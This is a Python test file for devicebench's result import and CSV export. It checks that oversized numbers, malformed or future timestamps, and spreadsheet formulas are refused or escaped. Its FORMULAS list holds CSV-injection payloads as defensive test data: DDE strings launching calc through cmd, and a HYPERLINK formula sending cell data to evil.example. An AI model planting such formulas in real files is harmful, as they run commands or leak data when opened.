"""Imported results whose values are well-formed yet hostile: numbers too large or too small to compute with,
times that are not times, and names that a spreadsheet would run as formulas.

    python -m pytest tests/test_hostile_values.py -q

1. Every number field is bounded: a figure above the largest storable number (or nonzero below its inverse) is
   refused at import, naming the field, and runs at the bounds compare and report without overflowing.
2. started_utc and created_utc are UTC times in devicebench's one form, none more than a day ahead of this
   machine's clock: `--last` is the latest by time.
3. A CSV export escapes every text cell that a spreadsheet would run as a formula (OWASP's advice: a ' before it);
   numbers, negative ones too, stay numbers.
4. An export is read one session at a time (never whole in memory), and still refused whole for one wrong field.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime
import io
import json
import typing

import pytest
from typer.testing import CliRunner

from devicebench.cli import EXIT_USAGE, app
from devicebench.results import transfer as transfer_module
from devicebench.results.schema import (
    LARGEST_WHOLE_NUMBER,
    SMALLEST_FIGURE,
    EpochRecord,
    Result,
    RunRecord,
    RunSettings,
)
from devicebench.results.store import Store
from devicebench.results.transfer import export_document, stream_results_file

cli = CliRunner()
READING_COMMANDS = (
    ["history", "--wide"],
    ["compare"],
    ["report", "--out", "r.html"],
    ["export", "out.csv"],
    ["compare", "--wide", "--baseline", "huge/cpu", "--price", "cpu=0.10,cuda=2.50"],
    ["export", "out.json"],
)


def unwrapped(text: str) -> str:
    return " ".join(text.split())


def stored_runs(db) -> int:
    with Store(db) as store:
        return sum(len(result.runs) for result in store.results())


def _number_fields(cls: type, kind: type) -> list[str]:
    """The fields of `cls` annotated `kind` or `kind | None`: every one that an import must bound."""
    hints = typing.get_type_hints(cls)
    return [
        item.name
        for item in dataclasses.fields(cls)
        if hints[item.name] is kind or set(typing.get_args(hints[item.name])) == {kind, type(None)}
    ]


# (the field's place in a run's dict, its name) for every float and every int a run holds
FLOAT_FIELDS = [
    *(("epochs[1]", name) for name in _number_fields(EpochRecord, float)),
    *(("", name) for name in _number_fields(RunRecord, float)),
]
INT_FIELDS = [
    *(("epochs[1]", name) for name in _number_fields(EpochRecord, int)),
    *(("", name) for name in _number_fields(RunRecord, int)),
    *(("settings", name) for name in _number_fields(RunSettings, int)),
]


def _place(run: dict, where: str) -> dict:
    return run["epochs"][1] if where == "epochs[1]" else run["settings"] if where == "settings" else run


def _import(tmp_path, db, data) -> object:
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return cli.invoke(app, ["import", str(path), "--db", str(db)])


def _refused(outcome, field_path: str, words: str) -> None:
    assert outcome.exit_code == EXIT_USAGE, outcome.output
    text = unwrapped(outcome.output)
    assert "nothing of it was imported" in text and f"{field_path}: " in text and words in text, text


@pytest.mark.parametrize("where, name", FLOAT_FIELDS, ids=[name for _, name in FLOAT_FIELDS])
def test_1_a_float_above_the_largest_storable_number_is_refused_naming_it(tmp_path, make_result, make_run, where, name):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    _place(data["runs"][0], where)[name] = 1.7e308
    path = f"runs[0].{where + '.' if where else ''}{name}"
    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), path, "of magnitude ≤ 9.22e+18")
    assert stored_runs(tmp_path / "db.sqlite") == 0


@pytest.mark.parametrize(
    "where, name",
    [field for field in FLOAT_FIELDS if "loss" not in field[1]],
    ids=[name for _, name in FLOAT_FIELDS if "loss" not in name],
)
def test_1_a_float_below_any_measurable_figure_is_refused_naming_it(tmp_path, make_result, make_run, where, name):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    _place(data["runs"][0], where)[name] = 5e-324  # the smallest float above 0: 1 / it is infinite
    path = f"runs[0].{where + '.' if where else ''}{name}"
    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), path, "expected 0 or a finite number of magnitude ≥")
    assert stored_runs(tmp_path / "db.sqlite") == 0


@pytest.mark.parametrize("where, name", INT_FIELDS, ids=[name for _, name in INT_FIELDS])
def test_1_a_whole_number_sqlite_cannot_store_is_refused_naming_it(tmp_path, make_result, make_run, where, name):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    _place(data["runs"][0], where)[name] = LARGEST_WHOLE_NUMBER + 1
    path = f"runs[0].{where + '.' if where else ''}{name}"
    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), path, f"of magnitude ≤ {LARGEST_WHOLE_NUMBER}")
    assert stored_runs(tmp_path / "db.sqlite") == 0


def test_1_a_tiny_loss_is_a_loss_and_is_kept(tmp_path, make_result, make_run):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    data["runs"][0]["epochs"][1]["train_loss"] = 1e-300  # a regression fitted exactly
    assert _import(tmp_path, tmp_path / "db.sqlite", data).exit_code == 0
    with Store(tmp_path / "db.sqlite") as store:
        assert store.results()[0].runs[0].epochs[1].train_loss == 1e-300


def _at_the_bounds(run: dict, figure: float) -> None:
    """Every figure of `run` (not accuracies, fractions by definition) set to `figure`, every count to the largest."""
    for where, name in FLOAT_FIELDS:
        if "accuracy" not in name:
            for epoch in run["epochs"] if where else [run]:
                epoch[name] = figure
    for epoch in run["epochs"]:
        epoch["rank_device_utilization_percent"] = [figure, None]
    for where, name in INT_FIELDS:
        if where != "settings" and name != "epoch":
            for epoch in run["epochs"] if where else [run]:
                epoch[name] = LARGEST_WHOLE_NUMBER


def test_1_runs_at_the_bounds_compare_and_report_without_overflowing(tmp_path, monkeypatch, make_result, make_run):
    """The largest figures against the smallest: every sum, median, ratio and chart of them stays finite."""
    monkeypatch.chdir(tmp_path)
    db = tmp_path / "db.sqlite"
    for machine, figure in (("huge", float(LARGEST_WHOLE_NUMBER) / 2), ("tiny", SMALLEST_FIGURE * 2)):
        data = make_result(
            machine, [make_run(run_id=f"{machine}-cpu"), make_run(device="cuda:0", run_id=f"{machine}-gpu")]
        ).to_dict()
        for run in data["runs"]:
            _at_the_bounds(run, figure)
        assert _import(tmp_path, db, data).exit_code == 0
    for command in READING_COMMANDS:
        outcome = cli.invoke(app, [*command, "--db", str(db)])
        assert outcome.exit_code == 0, (command, outcome.output)
        assert "Error" not in outcome.output and "unexpected" not in outcome.output


# --- 2. times are UTC times, and none is to come -------------------------------------------------------------------

NOT_TIMES = [
    "9999-99-99T99:99:99Z",
    "2026-02-30T10:00:00Z",
    "2026-3-1T10:00:00Z",
    "2026-03-01 10:00:00",
    "2026-03-01T10:00:00+01:00",
    "2026-03-01",
    "yesterday",
    "",
    1772359200,
]


@pytest.mark.parametrize("time", NOT_TIMES)
@pytest.mark.parametrize("field", ["created_utc", "runs[0].started_utc"])
def test_2_a_time_that_is_not_a_utc_time_is_refused_naming_it(tmp_path, make_result, make_run, field, time):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    _set_field(data, field, time)
    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), field, "expected a UTC time such as")
    assert stored_runs(tmp_path / "db.sqlite") == 0


def _set_field(data: dict, field: str, value) -> None:
    if field == "created_utc":
        data[field] = value
    else:
        data["runs"][0]["started_utc"] = value


def _from_now(hours: float) -> str:
    return (datetime.datetime.now(datetime.UTC) + datetime.timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")


@pytest.mark.parametrize("field", ["created_utc", "runs[0].started_utc"])
def test_2_a_time_more_than_a_day_ahead_is_refused_and_a_skewed_clock_is_not(tmp_path, make_result, make_run, field):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    _set_field(data, field, "9999-12-31T23:59:59Z")
    _refused(
        _import(tmp_path, tmp_path / "db.sqlite", data),
        field,
        "9999-12-31T23:59:59Z is more than 1 day after this machine's clock",
    )
    _set_field(data, field, _from_now(hours=25))
    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), field, "a run cannot have started in the future")
    assert stored_runs(tmp_path / "db.sqlite") == 0
    _set_field(data, field, _from_now(hours=12))  # another machine's clock, half a day ahead
    assert _import(tmp_path, tmp_path / "db.sqlite", data).exit_code == 0
    assert stored_runs(tmp_path / "db.sqlite") == 1


def test_2_last_is_the_latest_by_time_whatever_the_order_of_import(tmp_path, make_result, make_run):
    db = tmp_path / "db.sqlite"
    for machine, started in (("new", "2026-03-02T00:00:00Z"), ("old", "2026-03-01T23:59:59Z")):  # newest first
        data = make_result(machine, [make_run(run_id=machine, started_utc=started)], created_utc=started).to_dict()
        assert _import(tmp_path, db, data).exit_code == 0
    with Store(db) as store:
        (latest,) = store.results(last=1)
    assert [run.run_id for run in latest.runs] == ["new"]


# --- 3. a CSV export runs no formula in a spreadsheet ----------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
]
# every text a run's row carries, by where it sits in the result's dict
TEXT_FIELDS = [
    ("machine", "machine_name"),
    ("run", "workload"),
    ("run", "seed_experiment"),
    ("run", "device"),
    ("run", "device_name"),
    ("run", "error"),
    ("settings", "data_source"),
]


@pytest.mark.parametrize("name, choices", [("mode", "'seed', 'tuned'"), ("precision", "'fp32', 'bf16'")])
def test_a_mode_or_precision_devicebench_never_trains_with_is_refused_naming_the_choices(
    tmp_path, make_result, make_run, name, choices
):
    """A run's mode and precision are choices (devicebench.choices), read back as such: a formula, or a word no
    release wrote, is refused with the words it may be and nothing is imported."""
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    data["runs"][0]["settings"][name] = "=cmd|' /C calc'!A0"
    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), f"runs[0].settings.{name}", f"expected one of {choices}")
    assert stored_runs(tmp_path / "db.sqlite") == 0


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("formula", FORMULAS)
def test_3_every_text_cell_that_a_spreadsheet_would_run_is_escaped_and_numbers_stay_numbers(
    tmp_path, make_result, make_run, formula
):
    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
    run = data["runs"][0]
    places = {"machine": data["machine"], "run": run, "settings": run["settings"]}
    for place, name in TEXT_FIELDS:
        places[place][name] = formula
    run["settings"]["seed"] = -3  # numbers below zero: numbers, not formulas
    run["epochs"][1]["train_loss"] = -0.25
    db = tmp_path / "db.sqlite"
    with Store(db) as store:  # not `import`, which refuses a machine name holding @ or / (a label's marks); a local
        store.import_results([Result.from_dict(data)])  # run may still carry one, from $DEVICEBENCH_MACHINE
    assert cli.invoke(app, ["export", str(tmp_path / "out.csv"), "--db", str(db)]).exit_code == 0
    with (tmp_path / "out.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 3  # one per epoch
    for row in rows:
        for column, cell in row.items():
            assert _is_number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert all(row[name] == "'" + formula for _, name in TEXT_FIELDS)  # the text itself, shown as typed
        assert row["seed"] == "-3"
    assert [float(row["train_loss"]) for row in rows] == pytest.approx([2.0, -0.25, 2.0 / 3])


# --- 4. an export of any size is read one session at a time --------------------------------------------------------


def _export(make_result, make_run, sessions: int) -> dict:
    return export_document(
        [
            make_result(f"box-{number}", [make_run(run_id=f"run-{number}-{repeat}") for repeat in range(3)])
            for number in range(sessions)
        ]
    )


@pytest.mark.parametrize("piece", [1, 7, 4096])
def test_4_an_export_read_piece_by_piece_is_the_export(tmp_path, monkeypatch, make_result, make_run, piece):
    """Pieces of 1 and 7 characters cut every name, number and string somewhere: what is read is what was written."""
    document = _export(make_result, make_run, sessions=4)
    path = tmp_path / "export.json"
    path.write_text(json.dumps(document, indent=2))
    monkeypatch.setattr(transfer_module, "READ_CHARACTERS", piece)
    read = [result.to_dict() for result in stream_results_file(path)]
    assert read == [Result.from_dict(item).to_dict() for item in document["results"]]


def test_4_an_export_is_never_whole_in_memory(tmp_path, monkeypatch, make_result, make_run):
    document = _export(make_result, make_run, sessions=40)
    path = tmp_path / "export.json"
    path.write_text(json.dumps(document, indent=2))
    # as the file holds it: a session inside the document, each of its lines indented two levels deeper
    one_session = len(json.dumps({"results": [document["results"][-1]]}, indent=2))
    buffered = []
    read_more = transfer_module._JsonReader._read_more

    def watched(reader):
        read_more(reader)
        buffered.append(len(reader._text))

    monkeypatch.setattr(transfer_module, "READ_CHARACTERS", 1024)
    monkeypatch.setattr(transfer_module._JsonReader, "_read_more", watched)
    assert len(list(stream_results_file(path))) == 40
    assert path.stat().st_size > 30 * one_session
    assert max(buffered) < 2 * (one_session + 1024)  # what one session needs, never the file


def test_4_a_wrong_field_in_the_last_session_refuses_the_sessions_stored_before_it(tmp_path, make_result, make_run):
    document = _export(make_result, make_run, sessions=30)
    document["results"][-1]["runs"][2]["epochs"][2]["samples_per_s"] = -1.0
    outcome = _import(tmp_path, tmp_path / "db.sqlite", document)
    _refused(outcome, "results[29].runs[2].epochs[2].samples_per_s", "expected a finite number ≥ 0, got -1.0")
    assert stored_runs(tmp_path / "db.sqlite") == 0


def test_4_an_export_with_its_keys_sorted_imports_and_trailing_text_is_refused(tmp_path, make_result, make_run):
    document = _export(make_result, make_run, sessions=2)
    path = tmp_path / "sorted.json"
    path.write_text(json.dumps(document, sort_keys=True))  # jq -S: results before schema_version
    assert cli.invoke(app, ["import", str(path), "--db", str(tmp_path / "db.sqlite")]).exit_code == 0
    assert stored_runs(tmp_path / "db.sqlite") == 6
    document["schema_version"] = 99
    path.write_text(json.dumps(document, sort_keys=True))
    outcome = cli.invoke(app, ["import", str(path), "--db", str(tmp_path / "other.sqlite")])
    assert outcome.exit_code == EXIT_USAGE and "schema version 99" in unwrapped(outcome.output)
    path.write_text(json.dumps(_export(make_result, make_run, sessions=1)) + ' {"more": 1}')
    outcome = cli.invoke(app, ["import", str(path), "--db", str(tmp_path / "other.sqlite")])
    assert outcome.exit_code == EXIT_USAGE and "is not valid JSON (Extra data" in unwrapped(outcome.output)
    assert stored_runs(tmp_path / "other.sqlite") == 0


@pytest.mark.parametrize(
    "text, values",
    [
        ("1234567", [1234567]),
        ("[1.5e10, -2] 3.25", [[1.5e10, -2], 3.25]),
        ('"a long name" true', ["a long name", True]),
    ],
)
def test_4_a_value_cut_by_the_end_of_a_piece_is_read_whole(monkeypatch, text, values):
    monkeypatch.setattr(transfer_module, "READ_CHARACTERS", 1)
    reader = transfer_module._JsonReader(io.StringIO(text))
    assert [reader.value() for _ in values] == values and reader.peek() == ""
